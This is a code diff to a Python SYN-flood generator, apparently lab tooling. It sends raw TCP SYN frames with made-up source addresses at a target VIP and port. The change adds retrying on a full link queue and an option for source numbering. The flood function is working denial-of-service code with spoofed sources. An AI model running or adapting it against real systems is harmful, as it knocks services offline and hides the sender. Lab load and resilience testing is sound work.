@@ -6,6 +6,7 @@ usable inside a lab's namespace: the sources are made up. Run as `python -m limp
 """
 
 import argparse
+import errno
 import ipaddress
 import json
 import socket
@@ -43,6 +44,7 @@ FRAME = np.dtype(
     ]
 )
 CHUNK = 65_536  # frames built at a time
+QUEUE_WAIT_S = 0.0005
 IP_HEADER, TCP_HEADER = 20, 20
 SYN = 0x02
 
@@ -89,18 +91,30 @@ def link_macs(vip: str) -> bytes:
     raise SystemExit(f"the router {gateway} does not answer")
 
 
-def flood(vip: str, port: int, count: int) -> float:
-    """Send; seconds that it took."""
+def flood(vip: str, port: int, numbers: range) -> float:
+    """Send one SYN per number; seconds that it took."""
     macs, target = link_macs(vip), ipaddress.IPv4Address(vip)
     begun = time.monotonic()
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP)) as out:
         out.bind(("eth0", 0))
-        for start in range(0, count, CHUNK):
-            numbers = np.arange(start, min(count, start + CHUNK))
-            data = memoryview(frames(macs, target, port, numbers))
+        for start in range(numbers.start, numbers.stop, CHUNK):
+            some = np.arange(start, min(numbers.stop, start + CHUNK))
+            data = memoryview(frames(macs, target, port, some))
             for at in range(0, len(data), FRAME.itemsize):
-                out.send(data[at : at + FRAME.itemsize])
+                _send(out, data[at : at + FRAME.itemsize])
     return time.monotonic() - begun
+
+
+def _send(out: socket.socket, frame: memoryview) -> None:
+    """The link's queue may be full for a moment; what is lost further on is not noticed."""
+    while True:
+        try:
+            out.send(frame)
+            return
+        except OSError as error:
+            if error.errno != errno.ENOBUFS:
+                raise
+            time.sleep(QUEUE_WAIT_S)
 
 
 def main() -> None:
@@ -108,8 +122,10 @@ def main() -> None:
     parser.add_argument("vip")
     parser.add_argument("port", type=int)
     parser.add_argument("count", type=int)
+    parser.add_argument("--first", type=int, default=0, help="number of the first source")
     options = parser.parse_args()
-    took = flood(options.vip, options.port, options.count)
+    numbers = range(options.first, options.first + options.count)
+    took = flood(options.vip, options.port, numbers)
     print(json.dumps({"sent": options.count, "seconds": round(took, 2)}))
 
 
